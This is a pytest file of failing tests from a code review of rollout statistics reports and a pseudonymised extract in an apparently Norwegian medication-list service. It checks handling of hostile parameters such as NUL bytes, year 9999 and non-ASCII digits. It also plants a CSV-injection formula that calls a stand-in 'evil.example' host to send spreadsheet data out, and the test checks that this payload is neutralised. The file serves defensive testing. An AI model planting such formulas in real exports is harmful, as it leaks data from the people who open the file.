"""review19: failing tests for what the review of issue 19 found (the rollout reports and the
pseudonymised extract). Each test states the behaviour the issue, DESIGN §3 or the docs ask
for; each fails on main as merged (6fc7b29). See /work/notes/review-19.md."""

from __future__ import annotations

import csv
import html
import io
import re
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa

from pll.auth.tokens import issue
from pll.domain.model import Role
from pll.services.extract import write_extract
from pll.services.sfm import SfmService
from pll.services.stats import Statistics
from pll.stats import organisations
from pll.stats import rollout as rules
from pll.stats.extract import Pseudonymiser
from pll.store.db import Database
from pll.store.schema import audit_event, client_week_count
from tests.conftest import LiveServer
from tests.integration.builders import new_list, ok, patient
from tests.integration.test_administrations import NOT_GIVEN, given, med, setup
from tests.integration.test_rollout_reports import BASIS, doctor_token
from tests.integration.test_sfm import reference
from tests.integration.test_web import logged_in

ROLLOUT_PATHS = ("/stats/first-lists", "/stats/vendors", "/stats/gp-offices")


def _team(server: LiveServer) -> httpx.Client:
    token = issue(server.data_dir, "rollout")
    return httpx.Client(
        base_url=server.base, headers={"Authorization": f"Bearer {token}"}, timeout=30
    )


def _doctor(server: LiveServer, token: str, basis: bool = True) -> httpx.Client:
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/fhir+json"}
    if basis:
        headers |= BASIS
    return httpx.Client(base_url=server.base, headers=headers, timeout=30)


# -- 5xx on hostile parameters -------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "params", "where"),
    [
        ("/stats/first-lists", {"month": "9999-12"}, "month"),
        ("/stats/vendors", {"week": "9999-W52"}, "week"),
    ],
)
def test_the_last_month_or_week_of_year_9999_is_a_400_not_a_500(
    server: LiveServer, path: str, params: dict[str, str], where: str
) -> None:
    """month_span builds 10000-01-01 (ValueError), week_span adds 7 days past 9999-12-31
    (OverflowError); neither is InvalidInput, so both end as 500."""
    with _team(server) as team:
        r = team.get(path, params=params)
    assert r.status_code == 400, r.text
    assert r.json()["issue"][0]["expression"] == [where]


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/statistikk/utrulling", {"maned": "9999-12"}),
        ("/statistikk/utrulling/leverandorer", {"uke": "9999-W52"}),
    ],
)
def test_the_rollout_pages_answer_year_9999_with_a_400_page(
    server: LiveServer, path: str, params: dict[str, str]
) -> None:
    with logged_in(server, "rollout") as team:
        r = team.get(path, params=params)
    assert r.status_code == 400, r.text[:300]


@pytest.mark.parametrize(
    ("path", "params", "where"),
    [
        ("/stats/first-lists", {"month": "2026-1\x00"}, "month"),
        ("/stats/vendors", {"week": "2026-W4\x00"}, "week"),
    ],
)
def test_a_nul_in_the_period_is_a_400_on_both_databases(
    server: LiveServer, path: str, params: dict[str, str], where: str
) -> None:
    """The allowed read's audit record (resource id ``first-lists/<month>``) is inserted before
    the month is parsed: on PostgreSQL a NUL in a text column is refused by the driver, 500."""
    with _team(server) as team:
        r = team.get(path, params=params)
    assert r.status_code == 400, r.text
    assert r.json()["issue"][0]["expression"] == [where]


@pytest.mark.parametrize(
    ("path", "params", "where"),
    [
        ("/stats/first-lists", {"month": "\u0662\u0660\u0662\u0666-\u0661\u0660"}, "month"),
        ("/stats/vendors", {"week": "\u0662\u0660\u0662\u0666-W\u0664\u0661"}, "week"),
    ],
)
def test_a_period_in_other_digits_is_a_400(
    server: LiveServer, path: str, params: dict[str, str], where: str
) -> None:
    """``\\d`` matches any Unicode digit and ``int`` reads them: Arabic-Indic "2026-W41" is
    accepted, and the vendors report then mixes figures of the real week (changes, technical
    cases, read by time) with none of the counted ones (looked up by the week's text)."""
    with _team(server) as team:
        r = team.get(path, params=params)
    assert r.status_code == 400, r.text
    assert r.json()["issue"][0]["expression"] == [where]


def test_an_absurd_number_of_list_patients_is_refused_by_the_parser() -> None:
    """A GP office's list patients from the register file: any number of digits is accepted,
    so 99999999999 loads on SQLite and fails on PostgreSQL (``Integer`` column: DataError, a
    traceback from ``pll organisations load``), instead of a line-numbered refusal."""
    text = (
        "orgnr,name,kommunenummer,actor_type,her_id,list_patients\n"
        "974600951,Bergen legesenter,4601,fastlege,,99999999999\n"
    )
    with pytest.raises(ValueError, match="list_patients"):
        organisations.parse("test", text)


# -- what the payer is told ----------------------------------------------------------------

REGISTER = """orgnr,name,kommunenummer,actor_type,her_id,list_patients
974600951,Østmarka Legekontor,4601,fastlege,8093556,800
"""
OSTMARKA = "974600951"
JOHAN = "431001110"


def test_an_sfm_import_is_credited_to_the_registered_office_of_its_her_id(
    server: LiveServer,
) -> None:
    """The reference document's sender (Johan PSA Jensen, Østmarka Legekontor) names his office
    by name and HER-id 8093556 only. The register knows that HER-id as orgnr 974600951, a GP
    office; the first list it makes is still reported with an empty orgnr, and the GP-office
    report does not see the list at all: the payer cannot pay it, the office looks behind."""
    Statistics(server.db, server.service.clock).register(organisations.parse("test", REGISTER))
    SfmService(server.service).import_document(reference())
    with _team(server) as team:
        report = ok(team.get("/stats/first-lists"))
        offices = ok(team.get("/stats/gp-offices"))["rows"]
    johan = next(p for p in report["prescribers"] if p["hpr"] == JOHAN)
    assert johan["orgnr"] == OSTMARKA
    office = next(o for o in offices if o["orgnr"] == OSTMARKA)
    assert (office["patients_with_pll"], office["first_lists_this_month"]) == (1, 1)


def test_one_organisation_number_is_one_office_however_its_tokens_spell_its_name() -> None:
    """An orgnr not (yet) in the register is told apart by the token's org name: two GPs of
    the same office whose tokens spell it differently give the payer two offices with one
    organisation number."""
    at = datetime(2026, 10, 6, 8, tzinfo=UTC)
    doctor = Role.DOCTOR.value
    made = [
        (at, {"role": doctor, "hpr": "1001", "name": "A", "org_id": "912345678",
              "org_name": "Fjordbyen legesenter AS"}),
        (at, {"role": doctor, "hpr": "1002", "name": "B", "org_id": "912345678",
              "org_name": "Fjordbyen Legesenter"}),
    ]  # fmt: skip
    report = rules.first_lists("2026-10", made, {})
    assert [(o["orgnr"], o["patients"]) for o in report["organisations"]] == [("912345678", 2)]


FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_the_first_list_csv_starts_no_cell_with_a_formula(server: LiveServer) -> None:
    """The CSV is for the payer's spreadsheet. Its ``name`` and ``organisation`` cells come from
    tokens (and SFM documents) and are written as they are: a cell beginning with ``=`` is a
    formula when the file is opened (CSV injection, OWASP)."""
    evil = '=HYPERLINK("https://evil.example/?"&A1,"Se detaljer")'
    token = doctor_token(server.data_dir, evil, "9144889", "974600951", "@SUM(1+1)", "journal-a")
    with _doctor(server, token) as gp:
        pid = ok(gp.post("/fhir/Patient", json=patient()), 201)["id"]
        new_list(gp, pid)
    with _team(server) as team:
        r = team.get("/stats/first-lists", params={"format": "csv"})
    assert r.status_code == 200, r.text
    cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
    assert any(c.lstrip("'") == evil for c in cells)  # the story happened
    assert [c for c in cells if c.startswith(FORMULA)] == []


def test_the_pages_csv_link_downloads_the_csv_for_the_logged_in_team(server: LiveServer) -> None:
    """The first-list page offers "Last ned CSV" as a link to the API's
    ``/stats/first-lists?...&format=csv``; a browser sends its session cookie, not a bearer
    token, so the team clicking it gets the API's 403 for the public."""
    with logged_in(server, "rollout") as team:
        page = team.get("/statistikk/utrulling")
        assert page.status_code == 200, page.text[:300]
        found = re.search(r'href="(/stats/first-lists[^"]*format=csv)"', page.text)
        assert found, "no CSV link on the page"
        r = team.get(html.unescape(found.group(1)))
    assert r.status_code == 200, r.text[:300]
    assert r.headers["content-type"].startswith("text/csv")


# -- the refusal counter ---------------------------------------------------------------------


@contextmanager
def counter_fails(db: Database) -> Iterator[None]:
    """Make every write of ``client_week_count`` fail, as a full disk, a lock timeout or a
    read-only replica would."""
    with db.write() as conn:
        if db.is_sqlite:
            conn.execute(
                sa.text(
                    "CREATE TRIGGER review19_full BEFORE INSERT ON client_week_count "
                    "BEGIN SELECT RAISE(ABORT, 'review19: no space'); END"
                )
            )
        else:
            conn.execute(
                sa.text(
                    "CREATE OR REPLACE FUNCTION review19_full() RETURNS trigger AS $$ "
                    "BEGIN RAISE EXCEPTION 'review19: no space'; END $$ LANGUAGE plpgsql"
                )
            )
            conn.execute(
                sa.text(
                    "CREATE TRIGGER review19_full BEFORE INSERT ON client_week_count "
                    "FOR EACH ROW EXECUTE FUNCTION review19_full()"
                )
            )
    try:
        yield
    finally:
        with db.write() as conn:
            if db.is_sqlite:
                conn.execute(sa.text("DROP TRIGGER review19_full"))
            else:
                conn.execute(sa.text("DROP TRIGGER review19_full ON client_week_count"))
                conn.execute(sa.text("DROP FUNCTION review19_full()"))


def _refused_records(db: Database) -> int:
    with db.read() as conn:
        return int(
            conn.execute(
                sa.select(sa.func.count()).where(audit_event.c.outcome != "0")
            ).scalar_one()
        )


def test_a_refused_access_stays_a_logged_403_when_the_per_client_count_cannot_be_written(
    server: LiveServer,
) -> None:
    """Rule 5: a refused access is logged. The guard counts the refusal for the client system
    (``_by_client``, innermost) before the audit trail logs it (``trail.refusals``, outer):
    when that statistics write fails, the refusal is replaced by the write's error — the
    caller gets a 500 and the refused access is in no log."""
    with server.client("gp") as gp:
        pid = ok(gp.post("/fhir/Patient", json=patient()), 201)["id"]
        list_id = new_list(gp, pid)["id"]
    before = _refused_records(server.db)
    with server.client("gp", basis=None) as no_basis, counter_fails(server.db):
        r = no_basis.post(f"/fhir/List/{list_id}/$confirm", headers={"If-Match": 'W/"1"'})
    assert r.status_code == 403, r.text
    assert _refused_records(server.db) == before + 1


def test_a_refused_read_writes_nothing(server: LiveServer) -> None:
    """DESIGN: a refused request changes nothing. A read of a report with a parameter it does
    not take is refused (400), and now writes a row of ``client_week_count`` — every
    malformed read through a synchronous endpoint is a write transaction (on SQLite: the one
    write lock; on PostgreSQL: one hot row per client, week and measure that all its refusals
    update). The hot reads (``async_endpoint``) count none of theirs: the figures are also
    inconsistent."""
    with _team(server) as team:
        r = team.get("/stats/gp-offices", params={"by": "region"})
    assert r.status_code == 400, r.text
    with server.db.read() as conn:
        assert conn.execute(sa.select(client_week_count)).all() == []


# -- the extract -----------------------------------------------------------------------------

KEY = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"


def test_an_administration_versions_row_carries_its_own_status_reason(
    evening_round: LiveServer, tmp_path: Path
) -> None:
    """The extract joins each administration *version* to the record's *current* row for
    ``status_reason`` (and ``verifier_hpr``, ``slot_key``), and a correction does not update
    that column: the version saying "entered-in-error" is published as "not given because the
    patient refused" (version 1's reason) — a figure an evaluator would count twice."""
    server = evening_round
    pid, _, (entry,) = setup(server, med())
    reason = [{"coding": [{"system": NOT_GIVEN, "code": "refused"}]}]
    with server.client("nursing-home-nurse") as nurse:
        made = ok(
            nurse.post(
                "/fhir/MedicationAdministration",
                json=given(pid, entry, "kveld/1", "not-done", statusReason=reason),
            ),
            201,
        )
        wrong = {**made, "status": "entered-in-error", "statusReason": [{"text": "Feil pasient"}]}
        path = f"/fhir/MedicationAdministration/{made['id']}"
        ok(nurse.put(path, json=wrong, headers={"If-Match": 'W/"1"'}))
    out = tmp_path / "extract.csv"
    until = server.service.clock() + timedelta(days=1)
    write_extract(server.db, Pseudonymiser(KEY), out, "csv", None, until)
    with out.open(encoding="utf-8", newline="") as f:
        rows = [r for r in csv.DictReader(f) if r["kind"] == "administration"]
    got = sorted((r["action"], r["status"], r["status_reason"]) for r in rows)
    assert ("record", "not-done", "refused") in got
    assert ("correct", "entered-in-error", "refused") not in got, got
